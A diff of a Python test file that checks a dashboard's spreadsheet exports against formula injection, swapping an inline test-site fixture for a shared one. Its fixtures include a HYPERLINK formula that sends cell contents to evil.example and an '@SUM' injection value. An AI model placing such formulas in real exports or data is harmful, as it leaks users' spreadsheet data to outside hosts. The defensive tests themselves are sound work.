@@ -30,7 +30,7 @@ from ingest.errors import IngestError
 from store import schema
 from store.export_safety import FORMULA_STARTS, PLAIN_NUMBER, neutralise_formulas
 from tests.conftest import BEIJING_SITES, ROOT, TEST_DATA
-from tests.dash_helpers import staff_client
+from tests.dash_helpers import TEST_CITY_SITE, staff_client
 
 EVIL_STATION_ZH = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 EVIL_STATION_EN = '=HYPERLINK("http://evil.example","click")'
@@ -184,14 +184,7 @@ def test_every_dashboard_export_is_spreadsheet_safe(evil_app, name, lang):
 
 # --------------------------------------------------------------------------- command line
 
-SITE = """
-city: {id: testcity, name_zh: 测试市, name_en: Test city}
-districts:
-  - {id: east, name_zh: 东区, name_en: East, grade: II}
-stations:
-  - {code: T01, name_zh: 东一, name_en: East 1, district: east, lon: 116.1, lat: 39.1}
-  - {code: T02, name_zh: 东二, name_en: East 2, district: east, lon: 116.2, lat: 39.2}
-"""
+SITE = TEST_CITY_SITE
 LEGACY_CODES = {"T01": CALC, "T02": "@SUM(1+1)"}
 
 
